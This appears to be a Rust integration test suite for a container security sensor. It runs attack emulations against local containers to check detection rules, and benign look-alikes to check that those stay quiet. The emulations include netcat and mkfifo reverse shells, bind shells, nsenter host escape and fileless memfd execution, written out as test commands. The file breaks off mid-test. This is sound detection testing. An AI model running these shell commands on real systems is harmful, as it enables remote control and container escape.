//! The rule catalog against real attacks: each rule's emulation (its ADS Validation section) on
//! real containers with real tools must raise the alert with its key fields, and a benign
//! look-alike from its False Positives section must not. Traffic goes only to the test's own
//! containers and the docker bridge gateway. The sensor-tampering rules are in `tamper.rs`.

use std::{process::Command, time::Duration};

use sensor_tests::{
    Bodies, Containers, HostProgram, ImageTag, Sensor, Subject, assert_alert_fields,
    bridge_gateway, container_ip, docker, ev, image, lines, pb, run_rm, run_sh, scratch_dir,
    shipped_rule,
};

const SETTLE: Duration = Duration::from_secs(3);
const PRIVILEGED: [&str; 8] = [
    "--cap-add",
    "ALL",
    "--cap-drop",
    "SYS_RESOURCE",
    "--security-opt",
    "seccomp=unconfined",
    "--security-opt",
    "apparmor=unconfined",
];

#[test]
fn crs001_host_network_container() {
    let sensor = Sensor::start("crs001");
    let cid = run_rm(&["--network", "host"], &["true"]);
    let a = sensor.expect_alert("CRS-001", &cid);
    assert_alert_fields(&a, "CRS-001", &cid);
    assert!(
        a.process().host_namespaces.iter().any(|n| n == "net"),
        "{a:?}"
    );
    // Benign: a bridged container; and runc joining the host network for the one above is not
    // an escape (CRS-010 has a documented exception for it).
    let benign = run_rm(&[], &["true"]);
    sensor.assert_no_alert("CRS-001", &benign, SETTLE);
    sensor.assert_no_alert("CRS-010", &cid, Duration::ZERO);
}

#[test]
fn crs002_container_with_dangerous_capabilities() {
    let sensor = Sensor::start("crs002");
    let cid = run_rm(&["--cap-add", "SYS_ADMIN"], &["true"]);
    let a = sensor.expect_alert("CRS-002", &cid);
    assert_alert_fields(&a, "CRS-002", &cid);
    assert!(
        a.process()
            .cap_effective
            .iter()
            .any(|c| c == "CAP_SYS_ADMIN")
    );
    assert_eq!(a.process().seccomp, "filter", "{a:?}");
    // Docker's default capabilities, but no seccomp filter.
    let unconfined = run_rm(&["--security-opt", "seccomp=unconfined"], &["true"]);
    let a = sensor.expect_alert("CRS-002", &unconfined);
    assert_alert_fields(&a, "CRS-002", &unconfined);
    assert_eq!(a.process().seccomp, "disabled", "{a:?}");
    assert!(a.summary.contains("seccomp disabled"), "{a:?}");
    let benign = run_rm(&[], &["true"]);
    sensor.assert_no_alert("CRS-002", &benign, SETTLE);
}

/// The kinds of an alert's evidence events, in order.
fn evidence_kinds(a: &pb::Alert) -> Vec<&str> {
    a.events.iter().map(|e| e.kind.as_str()).collect()
}

/// A short life aggravates a suspicious act, three of them here: a reverse shell (another
/// rule's alert), a listener that is no netcat (busybox httpd), a program run from /tmp. The
/// ordinary short-lived containers stay quiet: a batch job fetching from a local service, a
/// health probe, a busybox script of applets and pipelines.
#[test]
fn crs006_short_lived_containers_that_did_something_suspicious() {
    let sensor = Sensor::start("crs006");
    let shell_listener = sensor.listener(&["sh", "-c", "(echo exit; sleep 1) | nc -l -p 9001"]);
    let shell = run_rm(&[], &["nc", &shell_listener.ip, "9001", "-e", "/bin/sh"]);
    let a = sensor.expect_alert("CRS-006", &shell);
    assert_alert_fields(&a, "CRS-006", &shell);
    let kinds = evidence_kinds(&a);
    assert!(
        kinds.contains(&"exec") && kinds.last() == Some(&"container_exited"),
        "evidence: {kinds:?}"
    );
    sensor.expect_alert("CRS-009", &shell);

    let listened = run_sh(&[], "httpd -f -p 7000 & sleep 1; kill $!");
    let a = sensor.expect_alert("CRS-006", &listened);
    assert!(evidence_kinds(&a).contains(&"socket"), "{a:?}");

    let dropped = run_sh(&[], "cp /bin/busybox /tmp/ls && /tmp/ls / >/dev/null");
    let a = sensor.expect_alert("CRS-006", &dropped);
    let exe: Vec<&str> = a.events.iter().map(|e| e.process().exe.as_str()).collect();
    assert!(exe.contains(&"/tmp/ls"), "{a:?}");

    // Benign: what batch jobs, probes and small images do all day.
    let service = sensor.listener(&["httpd", "-f", "-p", "8080", "-h", "/etc"]);
    let fetch = format!("wget -q -O /dev/null http://{}:8080/hostname", service.ip);
    let gw = bridge_gateway();
    let benign = [
        run_sh(&[], &fetch),
        run_sh(&[], &format!("nc -w 1 {gw} 9 </dev/null; true")),
        run_sh(
            &[],
            "for i in 1 2 3; do ls / | wc -l >/dev/null; sleep 0.2; done",
        ),
        run_rm(&[], &["true"]),
    ];
    sensor.assert_quiet(None, &benign, SETTLE);
}

#[test]
fn crs007_icmp_with_large_or_crafted_payloads() {
    let sensor = Sensor::start_with("crs007", &["--flow-interval", "1"]);
    let gw = bridge_gateway();
    let large = run_rm(&[], &["ping", "-c", "2", "-s", "1400", &gw]);
    let crafted = run_rm(&[], &["ping", "-c", "2", "-p", "41", &gw]);
    let a = sensor.expect_alert("CRS-007", &large);
    assert_alert_fields(&a, "CRS-007", &large);
    assert!(a.summary.contains("1400-byte"), "{a:?}");
    let b = sensor.expect_alert("CRS-007", &crafted);
    assert!(b.summary.contains("repeating-byte-41"), "{b:?}");
    let plain = run_rm(&[], &["ping", "-c", "2", &gw]);
    sensor.assert_no_alert("CRS-007", &plain, SETTLE);
}

#[test]
fn crs008_netcat_listener_with_exec() {
    let sensor = Sensor::start("crs008");
    let cid = docker(&[
        "run",
        "-d",
        &image(),
        "nc",
        "-l",
        "-p",
        "8080",
        "-e",
        "/bin/sh",
    ]);
    let _cleanup = Containers(vec![cid.clone()]);
    let a = sensor.expect_alert("CRS-008", &cid);
    assert_alert_fields(&a, "CRS-008", &cid);
    assert_eq!(
        a.process().args,
        ["nc", "-l", "-p", "8080", "-e", "/bin/sh"]
    );
    assert_eq!(a.severity(), pb::Severity::High);
    // Benign: a plain client connection (no exec, no listen).
    let gw = bridge_gateway();
    let benign = run_sh(&[], &format!("nc {gw} 9 </dev/null; exit 0"));
    sensor.assert_no_alert("CRS-008", &benign, SETTLE);
}

#[test]
fn crs009_reverse_shell_over_netcat() {
    let sensor = Sensor::start("crs009");
    let listener = sensor.listener(&["sh", "-c", "(echo id; sleep 3) | nc -l -p 9001"]);
    let lip = &listener.ip;
    let shell = run_rm(&[], &["nc", lip, "9001", "-e", "/bin/sh"]);
    let a = sensor.expect_alert("CRS-009", &shell);
    assert_alert_fields(&a, "CRS-009", &shell);
    assert_eq!(a.severity(), pb::Severity::Critical);
    assert!(a.summary.contains(&format!("{lip}:9001")), "{a:?}");
    // Benign: a service that runs /bin/cat (not a shell) on its socket.
    let echo = sensor.listener(&["nc", "-ll", "-p", "9002", "-e", "/bin/cat"]);
    run_sh(
        &[],
        &format!("echo hi | nc {} 9002 >/dev/null; exit 0", echo.ip),
    );
    docker(&["rm", "-f", &echo.id]);
    sensor.assert_no_alert("CRS-009", &echo.id, SETTLE);
}

/// Reverse shells with no socket on the shell's stdio: the mkfifo one-liner with stock busybox
/// (`cat f | sh -i | nc HOST PORT > f`), and a relay program under a name no rule knows
/// (`pipe-relay`: connects, runs /bin/sh on pipes of its own, copies). Benign: a script
/// fetched and piped into sh (its output goes nowhere near the network), and a script's
/// output piped to nc.
#[test]
fn crs009_shells_relayed_through_pipes_by_a_pipeline_or_a_relay_tool() {
    let sensor = Sensor::start("crs009_relay");
    let commands = ["sh", "-c", "(echo id; sleep 2) | nc -l -p 9001"];
    let fifo_peer = sensor.listener(&commands);
    let fifo = run_sh(
        &[],
        &format!(
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc {} 9001 > /tmp/f; true",
            fifo_peer.ip
        ),
    );
    let a = sensor.expect_alert("CRS-009", &fifo);
    assert_alert_fields(&a, "CRS-009", &fifo);
    let relay = &a.events[0];
    assert_eq!(relay.kind, "stdio_relay", "{a:?}");
    assert_eq!(relay.stdio_relay().via, "pipeline", "{a:?}");
    assert_eq!(relay.stdio_relay().relay_comm, "nc", "{a:?}");
    assert_eq!(ev::addr(&relay.stdio_relay().peer), fifo_peer.ip, "{a:?}");

    let tool_peer = sensor.listener(&commands);
    let bin = env!("CARGO_BIN_EXE_pipe-relay");
    let program = HostProgram::new(bin, "/usr/local/bin/svc-agent");
    let tool = run_rm(
        &program.args(),
        &["svc-agent", &tool_peer.ip, "9001", "/bin/sh"],
    );
    let a = sensor.expect_alert("CRS-009", &tool);
    assert_alert_fields(&a, "CRS-009", &tool);
    let relay = a.events[0].stdio_relay();
    assert_eq!(relay.via, "parent", "{a:?}");
    assert_eq!(relay.relay_exe, "/usr/local/bin/svc-agent", "{a:?}");

    // The same tool on a socket pair (socat EXEC:) and on a pty (socat's pty, pty.spawn).
    for via in ["socketpair", "pty"] {
        let peer = sensor.listener(&commands);
        let cid = run_rm(
            &program.args(),
            &["svc-agent", "--via", via, &peer.ip, "9001", "/bin/sh"],
        );
        let a = sensor.expect_alert("CRS-009", &cid);
        assert_alert_fields(&a, "CRS-009", &cid);
        let relay = a.events[0].stdio_relay();
        assert_eq!(relay.via, via, "{a:?}");
        assert_eq!(ev::addr(&relay.peer), peer.ip, "{a:?}");
    }

    let service = sensor.listener(&[
        "sh",
        "-c",
        "mkdir /w && echo 'echo hi' > /w/s && httpd -f -p 8080 -h /w",
    ]);
    let sink = sensor.listener(&["sh", "-c", "nc -l -p 9003 > /dev/null"]);
    let benign = [
        run_sh(
            &[],
            &format!("wget -q -O- http://{}:8080/s | sh", service.ip),
        ),
        run_sh(&[], &format!("sh -c 'ls /' | nc {} 9003; true", sink.ip)),
    ];
    sensor.assert_quiet(Some("CRS-009"), &benign, SETTLE);
    let relays: Vec<pb::Event> = sensor
        .events()
        .into_iter()
        .filter(|e| e.kind == "stdio_relay" && benign.iter().any(|c| e.cid() == c))
        .collect();
    assert!(relays.is_empty(), "{relays:?}");
}

/// The ADS's benign case "a shell to an administrator's jump host": an `addresses` exception
/// (a /32 CIDR block) silences reverse shells to that peer and no other.
#[test]
fn crs009_an_address_exception_silences_shells_to_that_peer_only() {
    let img = image();
    let listener = || {
        let script = "(echo id; sleep 1) | nc -l -p 9001";
        docker(&["run", "-d", "--rm", &img, "sh", "-c", script])
    };
    let (jump, other) = (listener(), listener());
    let _cleanup = Containers(vec![jump.clone(), other.clone()]);
    let (jump_ip, other_ip) = (container_ip(&jump), container_ip(&other));
    let rules = scratch_dir("crs009-allow-rules");
    let exception = format!(
        "exceptions:\n  - name: jump-host\n    reason: the administrators' jump host\n    addresses: [\"{jump_ip}/32\"]\n"
    );
    let rule = shipped_rule("009-reverse-shell.yaml");
    assert!(!rule.contains("exceptions:"), "update this test");
    std::fs::write(rules.join("009.yaml"), format!("{rule}{exception}")).unwrap();
    let sensor = Sensor::start_with("crs009-allow", &["--rules", rules.to_str().unwrap()]);

    let to_other = run_rm(&[], &["nc", &other_ip, "9001", "-e", "/bin/sh"]);
    let to_jump = run_rm(&[], &["nc", &jump_ip, "9001", "-e", "/bin/sh"]);
    let a = sensor.expect_alert("CRS-009", &to_other);
    assert_eq!(ev::addr(&a.events[0].exec().stdio_peer), other_ip, "{a:?}");
    sensor.assert_no_alert("CRS-009", &to_jump, SETTLE);
    // The shell to the jump host ran and was seen with its peer: the exception, not a miss,
    // kept it quiet.
    sensor.expect("the allow-listed shell's exec", |e| {
        e.kind == "exec" && e.cid() == to_jump && ev::addr(&e.exec().stdio_peer) == jump_ip
    });
    let _ = std::fs::remove_dir_all(&rules);
}

#[test]
fn crs010_nsenter_into_the_host() {
    let sensor = Sensor::start("crs010");
    let mut host = Command::new("sleep").arg("30").spawn().unwrap();
    let mut flags = PRIVILEGED.to_vec();
    flags.extend(["--pid", "host"]);
    let cid = run_rm(
        &flags,
        &["nsenter", "-t", &host.id().to_string(), "-n", "/bin/true"],
    );
    let _ = host.kill();
    let _ = host.wait();
    let a = sensor.expect_alert("CRS-010", &cid);
    assert_alert_fields(&a, "CRS-010", &cid);
    assert_eq!(a.process().comm, "nsenter");
    // Benign: a new namespace of the container's own, not the host's.
    let benign = run_rm(&PRIVILEGED, &["unshare", "-n", "/bin/true"]);
    sensor.assert_no_alert("CRS-010", &benign, SETTLE);
}

const CUSTOM_RULE: &str = r#"id: TEST-900
name: Test rule loaded from a directory
goal: Prove --rules and SIGHUP reload.
attack: {techniques: [T1059], tactic: Execution}
severity: low
strategy: Matches a marker argument.
blind_spots: [none]
false_positives: [none]
validation: Run true with the marker in a container.
response: [none]
logic:
  kind: condition
  condition: evt.kind = exec and container.id exists and proc.args contains "reload-marker"
output: "marker seen in {container.id}"
"#;

#[test]
fn a_malformed_rule_is_refused_and_the_sensor_keeps_its_last_good_rules() {
    let dir = std::env::temp_dir().join(format!("sensor-rules-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("custom.yaml"), CUSTOM_RULE).unwrap();
    let sensor = Sensor::start_with("reload", &["--rules", dir.to_str().unwrap()]);
    let first = run_rm(&[], &["true", "reload-marker"]);
    sensor.expect_alert("TEST-900", &first);

    // A broken file: the validator names file, line and column; the reload is refused.
    let broken = CUSTOM_RULE
        .replace("TEST-900", "TEST-901")
        .replace("proc.args contains", "proc.argz contains");
    std::fs::write(dir.join("broken.yaml"), &broken).unwrap();
    let out = Command::new(sensor_tests::sensor_bin())
        .args(["rules", "validate", dir.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let report = String::from_utf8_lossy(&out.stdout);
    let broken_path = dir.join("broken.yaml").display().to_string();
    assert!(report.contains(&format!("{broken_path}:13:")), "{report}");
    assert!(
        report.contains("unknown field \"proc.argz\"")
            && report.contains("did you mean \"proc.args\""),
        "{report}"
    );

    // SAFETY: kill(2) on the sensor we started.
    unsafe { libc::kill(sensor.pid() as i32, libc::SIGHUP) };
    assert!(
        sensor.wait_until(Duration::from_secs(10), |_| sensor
            .stderr_text()
            .contains("rule reload failed, keeping the current rules")),
        "{}",
        sensor.stderr_text()
    );
    assert!(sensor.stderr_text().contains(&format!("{broken_path}:13:")));
    let second = run_rm(&[], &["true", "reload-marker"]);
    sensor.expect_alert("TEST-900", &second);

    // Fixing the file is enough: the sensor notices the change on disk and loads both rules.
    std::fs::write(
        dir.join("broken.yaml"),
        broken
            .replace("proc.argz", "proc.args")
            .replace("reload-marker", "second-marker"),
    )
    .unwrap();
    assert!(
        sensor.wait_until(Duration::from_secs(15), |_| sensor
            .stderr_text()
            .contains("reloaded")),
        "{}",
        sensor.stderr_text()
    );
    let third = run_rm(&[], &["true", "second-marker"]);
    sensor.expect_alert("TEST-901", &third);
    let _ = std::fs::remove_dir_all(&dir);
}

/// A threshold over every container's exec of a marker: fires at the third.
const WINDOW_RULE: &str = r#"id: TEST-910
name: Test threshold that spans a reload
goal: Prove a reload keeps the state of unchanged rules.
attack: {techniques: [T1059], tactic: Execution}
severity: low
strategy: Counts a marker argument across containers.
blind_spots: [none]
false_positives: [none]
validation: Run true with the marker in three containers.
response: [none]
logic:
  kind: threshold
  condition: evt.kind = exec and container.id exists and proc.args contains "window-marker"
  key: [evt.kind]
  above: 2
  window_seconds: 600
output: "third marker in {container.id}"
"#;

#[test]
fn a_rule_reload_keeps_the_window_of_an_unchanged_rule() {
    let dir = scratch_dir("rules-window");
    std::fs::write(dir.join("window.yaml"), WINDOW_RULE).unwrap();
    let sensor = Sensor::start_with("reload_window", &["--rules", dir.to_str().unwrap()]);
    let before: Vec<String> = (0..2)
        .map(|_| run_rm(&[], &["true", "window-marker"]))
        .collect();
    for cid in &before {
        sensor.expect(&format!("the marker's exec in {cid}"), |e| {
            e.kind == "exec" && e.cid() == cid
        });
    }
    sensor.assert_no_alert("TEST-910", &before[1], Duration::ZERO);

    // Another rule file appears, and the rule's exceptions are edited: both reload the rules;
    // neither changes TEST-910's logic, so its window (two execs so far) goes on.
    std::fs::write(dir.join("custom.yaml"), CUSTOM_RULE).unwrap();
    let excepted = format!(
        "{WINDOW_RULE}exceptions:\n  - {{name: ci, reason: the CI image, images: [ci/*]}}\n"
    );
    std::fs::write(dir.join("window.yaml"), excepted).unwrap();
    assert!(
        sensor.wait_until(Duration::from_secs(15), |_| sensor
            .stderr_text()
            .contains("new [TEST-900]")),
        "{}",
        sensor.stderr_text()
    );
    // The files are polled every health tick (1 s here): the two writes may take two reloads.
    std::thread::sleep(Duration::from_secs(3));
    let log = sensor.stderr_text();
    for reload in log.lines().filter(|l| l.contains("reloaded")) {
        assert!(reload.contains("started over for changed []"), "{reload}");
    }
    let third = run_rm(&[], &["true", "window-marker"]);
    // The third exec fires only if the two before the reload still count.
    sensor.expect_alert("TEST-910", &third);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn crs003_a_burst_of_containers() {
    let sensor = Sensor::start("crs003");
    // Benign first: a handful of containers is normal scaling.
    let few: Vec<String> = (0..5).map(|_| run_rm(&[], &["true"])).collect();
    sensor.assert_no_alert("CRS-003", few.last().unwrap(), Duration::ZERO);
    // 25 containers within a few seconds (5 at a time).
    let ids = std::sync::Mutex::new(Vec::new());
    std::thread::scope(|s| {
        for _ in 0..5 {
            s.spawn(|| {
                for _ in 0..5 {
                    let id = run_rm(&[], &["true"]);
                    ids.lock().unwrap().push(id);
                }
            });
        }
    });
    let ids = ids.into_inner().unwrap();
    let a = sensor
        .wait_for_alert(Duration::from_secs(30), |a| a.rule_id == "CRS-003")
        .expect("a CRS-003 alert for the burst");
    // The rule is node-wide: containers of tests running alongside count too, so the alert
    // names whichever container crossed the threshold, with its start as evidence.
    assert_eq!(
        a.events.first().map(|e| e.kind.as_str()),
        Some("container_started"),
        "{a:?}"
    );
    assert_eq!(a.cid().len(), 64);
    assert_eq!(ids.len(), 25);
    let alerts = sensor
        .alerts()
        .iter()
        .filter(|a| a.rule_id == "CRS-003")
        .count();
    // One alert per more-than-20 starts, not one per container (the window starts over).
    assert!(
        (1..=2).contains(&alerts),
        "{alerts} CRS-003 alerts for a burst of 25"
    );
}

#[test]
fn crs005_sixty_megabytes_to_one_peer() {
    let sensor = Sensor::start_with("crs005", &["--flow-interval", "1"]);
    let serve = |mb: u32| {
        let script = format!(
            "mkdir /www && head -c {} /dev/zero > /www/blob && httpd -f -p 8000 -h /www",
            mb << 20
        );
        sensor.listener(&["sh", "-c", &script])
    };
    // Benign: 10 MB (the volume test's transfer) stays under the 50 MB threshold.
    let small = serve(10);
    let big = serve(60);
    run_sh(
        &[],
        &format!("wget -q -O /dev/null http://{}:8000/blob", small.ip),
    );
    run_sh(
        &[],
        &format!("wget -q -O /dev/null http://{}:8000/blob", big.ip),
    );
    let a = sensor.expect_alert("CRS-005", &big.id);
    assert_alert_fields(&a, "CRS-005", &big.id);
    docker(&["rm", "-f", &small.id]);
    sensor.assert_no_alert("CRS-005", &small.id, SETTLE);
}

/// The same technique without the syscalls or a closed connection: `uring-tcp` sends 60 MB to
/// a server container through io_uring requests only and keeps the connection open; the alert
/// comes from the connection's own counters while it lasts. Its benign twin sends 30 MB the
/// same way (counted once, not once per sample and again at the close).
#[test]
fn crs005_sixty_megabytes_through_io_uring_on_a_connection_left_open() {
    let sensor = Sensor::start_with("crs005_uring", &["--flow-interval", "1"]);
    let bin = env!("CARGO_BIN_EXE_uring-tcp");
    let program = HostProgram::new(bin, "/uring-tcp");
    let mounts = program.args();
    let image = image();
    let send = |mb: u64, port: &str| {
        let server = sensor.listener_with(&mounts, &["/uring-tcp", "server", port]);
        let bytes = (mb << 20).to_string();
        let mut args: Vec<&str> = vec!["run", "-d"];
        args.extend(mounts);
        args.extend([
            image.as_str(),
            "/uring-tcp",
            "client",
            &server.ip,
            port,
            &bytes,
            "30",
        ]);
        let client = docker(&args);
        (server, Containers(vec![client.clone()]), client)
    };
    let (_small_server, _small_cleanup, small) = send(30, "7071");
    let (_big_server, _big_cleanup, big) = send(60, "7072");
    let a = sensor.expect_alert("CRS-005", &big);
    assert_alert_fields(&a, "CRS-005", &big);
    let evs = sensor.lines();
    assert!(
        !lines::events(&evs).any(|e| e.kind == "container_exited" && e.cid() == big),
        "the sender exited before the alert: the volume came from the close, not the samples"
    );
    sensor.assert_no_alert("CRS-005", &small, SETTLE);
}

#[test]
fn crs011_each_drop_episode_alerts_naming_the_flooding_container() {
    // (The test sensor reports health every second.)
    let sensor = Sensor::start_with("crs011", &["--net-rate", "20", "--net-burst", "20"]);
    let flood = "end=$(( $(date +%s) + 3 )); while [ $(date +%s) -lt $end ]; do nc 127.0.0.1 1 </dev/null 2>/dev/null; done";
    // The flooding container pauses long enough (several health intervals) between two floods
    // for them to be two episodes; a quiet container connects a few times meanwhile.
    let flooder = docker(&[
        "run",
        "-d",
        &image(),
        "sh",
        "-c",
        &format!("{flood}; sleep 4; {flood}"),
    ]);
    let _cleanup = Containers(vec![flooder.clone()]);
    let quiet = run_sh(
        &[],
        "for i in 1 2 3; do nc 127.0.0.1 1 </dev/null; sleep 0.3; done; exit 0",
    );
    docker(&["wait", &flooder]);
    let ours = |a: &pb::Alert| a.rule_id == "CRS-011" && a.cid() == flooder;
    assert!(
        sensor.wait_until(Duration::from_secs(20), |lines| {
            lines::alerts(lines).filter(|a| ours(a)).count() >= 2
        }),
        "one CRS-011 alert per episode of the flooding container: {:?}",
        sensor
            .alerts()
            .iter()
            .filter(|a| ours(a))
            .collect::<Vec<_>>()
    );
    // One snapshot for the alerts and the events.
    let seen = sensor.lines();
    let alerts: Vec<&pb::Alert> = lines::alerts(&seen).filter(|a| ours(a)).collect();
    assert_eq!(alerts.len(), 2, "two episodes, two alerts: {alerts:?}");
    let a = alerts[0];
    assert_alert_fields(a, "CRS-011", &flooder);
    let lost = &a.events[0];
    assert_eq!(lost.kind, "events_dropped", "{a:?}");
    assert_eq!(lost.events_dropped().ring, "network");
    assert_eq!(lost.events_dropped().reason, "rate_limited");
    assert!(lost.events_dropped().dropped > 0, "{lost:?}");
    assert!(a.summary.contains(flooder.as_str()), "{a:?}");
    // Within an episode, no new alert: the flood's own later intervals are not episode starts.
    let episodes = lines::events(&seen)
        .filter(|e| {
            e.kind == "events_dropped" && e.cid() == flooder && e.events_dropped().episode_start
        })
        .count();
    assert_eq!(episodes, 2);
    // The quiet container stayed within its rate: no loss, no alert.
    sensor.assert_no_alert("CRS-011", &quiet, SETTLE);
}

#[test]
fn crs004_iptables_in_a_container() {
    let sensor = Sensor::start("crs004");
    // Lists the container's own tables (its network namespace): harmless, and what an attacker
    // would do first.
    let cid = run_rm(&["--cap-add", "NET_ADMIN"], &["iptables", "-L"]);
    let a = sensor.expect_alert("CRS-004", &cid);
    assert_alert_fields(&a, "CRS-004", &cid);
    assert_eq!(a.process().exe, "/usr/sbin/iptables", "{a:?}");
    // Benign: reading routes uses NETLINK_ROUTE, not netfilter.
    let benign = run_rm(&[], &["ip", "route"]);
    sensor.assert_no_alert("CRS-004", &benign, SETTLE);
}

#[test]
fn crs012_bind_shell_is_a_listen_then_a_shell_on_a_socket() {
    let sensor = Sensor::start("crs012");
    let bind_shell = sensor.listener(&["nc", "-l", "-p", "9100", "-e", "/bin/sh"]);
    let (cid, ip) = (&bind_shell.id, &bind_shell.ip);
    run_sh(&[], &format!("echo id | nc {ip} 9100 >/dev/null; exit 0"));
    let a = sensor.expect_alert("CRS-012", cid);
    assert_alert_fields(&a, "CRS-012", cid);
    let steps: Vec<&str> = a.events.iter().map(|e| e.kind.as_str()).collect();
    assert_eq!(
        steps,
        ["socket", "exec"],
        "the listen, then the shell: {a:?}"
    );
    // Benign: a listener serving /bin/cat.
    let cat = sensor.listener(&["nc", "-l", "-p", "9101", "-e", "/bin/cat"]);
    run_sh(
        &[],
        &format!("echo hi | nc {} 9101 >/dev/null; exit 0", cat.ip),
    );
    docker(&["rm", "-f", &cat.id]);
    sensor.assert_no_alert("CRS-012", &cat.id, SETTLE);
}

#[test]
fn crs013_echo_requests_far_faster_than_a_person_pings() {
    let sensor = Sensor::start_with("crs013", &["--flow-interval", "1"]);
    let gw = bridge_gateway();
    // 80 requests in about 4 s: bounded, to the bridge gateway only.
    let fast = run_rm(&[], &["ping", "-q", "-c", "80", "-i", "0.05", &gw]);
    let a = sensor.expect_alert("CRS-013", &fast);
    assert_alert_fields(&a, "CRS-013", &fast);
    assert!(a.summary.contains(&gw), "{a:?}");
    let slow = run_rm(&[], &["ping", "-q", "-c", "5", &gw]);
    sensor.assert_no_alert("CRS-013", &slow, SETTLE);
}

/// `docker run -d IMAGE httpd -f -p PORT`: a plain service listening on `port`.
fn serve_on(image: &str, port: u16) -> String {
    docker(&["run", "-d", image, "httpd", "-f", "-p", &port.to_string()])
}

/// Waits for `cid`'s listen event.
fn listening(sensor: &Sensor, cid: &str) {
    sensor.expect(&format!("a listen in {cid}"), |e| {
        e.kind == "socket" && e.socket().op == "listen" && e.cid() == cid
    });
}

#[test]
fn crs008b_a_port_the_image_did_not_listen_on_while_learning() {
    let rules = scratch_dir("crs008b-rules");
    let state = scratch_dir("crs008b-state");
    let rule = shipped_rule("008B-unusual-listening-port.yaml");
    assert!(rule.contains("learn_seconds: 3600"), "update this test");
    std::fs::write(
        rules.join("008B.yaml"),
        rule.replace("learn_seconds: 3600", "learn_seconds: 5"),
    )
    .unwrap();
    // An image of the test's own, so no other test's containers teach or trip its set.
    let tag = ImageTag::new(
        &image(),
        &format!("sensor-test/learn-{}:latest", std::process::id()),
    );
    let args = [
        "--rules",
        rules.to_str().unwrap(),
        "--state-dir",
        state.to_str().unwrap(),
    ];
    let sensor = Sensor::start_with("crs008b", &args);
    let learner = serve_on(&tag.0, 8080);
    let mut cleanup = Containers(vec![learner.clone()]);
    listening(&sensor, &learner);
    std::thread::sleep(Duration::from_secs(6)); // past the 5 s learning period
    let usual = serve_on(&tag.0, 8080);
    let unusual = serve_on(&tag.0, 9999);
    cleanup.0.extend([usual.clone(), unusual.clone()]);
    let a = sensor.expect_alert("CRS-008B", &unusual);
    assert_alert_fields(&a, "CRS-008B", &unusual);
    assert_eq!(a.container().image, tag.0, "{a:?}");
    assert!(a.summary.contains("9999"), "{a:?}");
    listening(&sensor, &usual);
    docker(&["rm", "-f", &usual, &learner]);
    sensor.assert_no_alert("CRS-008B", &usual, SETTLE);
    sensor.assert_no_alert("CRS-008B", &learner, Duration::ZERO);

    // What was learned survives a restart: the next sensor judges at once.
    assert!(sensor.stop().success());
    let learned = std::fs::read_to_string(state.join("learned.json")).expect("learned.json");
    assert!(
        learned.contains(&tag.0) && learned.contains("8080"),
        "{learned}"
    );
    let sensor = Sensor::start_with("crs008b-restarted", &args);
    let again = serve_on(&tag.0, 9999);
    let quiet = serve_on(&tag.0, 8080);
    cleanup.0.extend([again.clone(), quiet.clone()]);
    sensor.expect_alert("CRS-008B", &again);
    listening(&sensor, &quiet);
    docker(&["rm", "-f", &quiet]);
    sensor.assert_no_alert("CRS-008B", &quiet, SETTLE);
    let _ = std::fs::remove_dir_all(&rules);
    let _ = std::fs::remove_dir_all(&state);
}

#[test]
fn crs005b_a_transfer_far_above_the_containers_own_baseline() {
    let sensor = Sensor::start_with("crs005b", &["--flow-interval", "1"]);
    // Two servers with a 200 kB and a 30 MB file (under CRS-005's 50 MB threshold).
    let script = "mkdir /www && head -c 200000 /dev/zero > /www/small \
                  && head -c 31457280 /dev/zero > /www/big && httpd -f -p 8000 -h /www";
    let burst = docker(&["run", "-d", &image(), "sh", "-c", script]);
    let steady = docker(&["run", "-d", &image(), "sh", "-c", script]);
    let mut cleanup = Containers(vec![burst.clone(), steady.clone()]);
    listening(&sensor, &burst);
    listening(&sensor, &steady);
    // One client each, so each server has one peer: eight small fetches a second apart, then
    // (for the burst pair only) the big one.
    let client = |server: &str, big: bool| {
        let ip = container_ip(server);
        let fetch = |file: &str| format!("wget -q -O /dev/null http://{ip}:8000/{file}");
        let last = if big { fetch("big") } else { "true".into() };
        let script = format!(
            "for i in 1 2 3 4 5 6 7 8; do {}; sleep 1; done; {last}; sleep 2",
            fetch("small")
        );
        docker(&["run", "-d", &image(), "sh", "-c", &script])
    };
    let burst_client = client(&burst, true);
    let steady_client = client(&steady, false);
    cleanup
        .0
        .extend([burst_client.clone(), steady_client.clone()]);
    let a = sensor.expect_alert("CRS-005B", &burst);
    assert_alert_fields(&a, "CRS-005B", &burst);
    let client_ip = container_ip(&burst_client);
    assert_eq!(ev::addr(&a.events[0].traffic().peer), client_ip, "{a:?}");
    assert!(a.summary.contains("baseline"), "{a:?}");
    // Both clients done (about 11 s), then the servers go; neither crossed CRS-005's threshold.
    sensor.expect("the steady client's exit", |e| {
        e.kind == "container_exited" && e.cid() == steady_client
    });
    docker(&["rm", "-f", &burst, &steady]);
    sensor.assert_no_alert("CRS-005B", &steady, SETTLE);
    sensor.assert_no_alert("CRS-005", &burst, Duration::ZERO);
}

/// Fileless execution three ways, none of them by a path: a memory file (memfd_create, then
/// fexecve), an O_TMPFILE file, and, with stock busybox only, a copy opened, deleted and run
/// through /proc/self/fd. Benign: a copy that is deleted only after it started, and plain
/// execs, in the same kind of container.
#[test]
fn crs019_fileless_execution_from_memory_and_deleted_files() {
    let sensor = Sensor::start("crs019");
    let bin = env!("CARGO_BIN_EXE_memfd-exec");
    let program = HostProgram::new(bin, "/memfd-exec");
    for (how, file) in [("memfd", "memfd:payload"), ("tmpfile", "")] {
        let cid = run_rm(&program.args(), &["/memfd-exec", how, "/bin/busybox", "id"]);
        let a = sensor.expect_alert("CRS-019", &cid);
        assert_alert_fields(&a, "CRS-019", &cid);
        let p = a.events[0].process();
        assert!(p.exe_unlinked, "{a:?}");
        if !file.is_empty() {
            assert_eq!(p.exe_file, file, "{a:?}");
        }
        assert_eq!(p.args.first().map(String::as_str), Some("id"), "{a:?}");
    }
    // busybox then finds no applet named "3" and exits: the exec is what counts.
    let deleted = run_sh(
        &[],
        "(cp /bin/busybox /tmp/.x && exec 3</tmp/.x && rm /tmp/.x && exec /proc/self/fd/3); true",
    );
    let a = sensor.expect_alert("CRS-019", &deleted);
    assert_alert_fields(&a, "CRS-019", &deleted);
    assert_eq!(a.events[0].process().exe_file, ".x", "{a:?}");
    // Through the dynamic loader: the executable (the loader) has a link; the program it loads
    // from a descriptor has none.
    let loaded = run_sh(
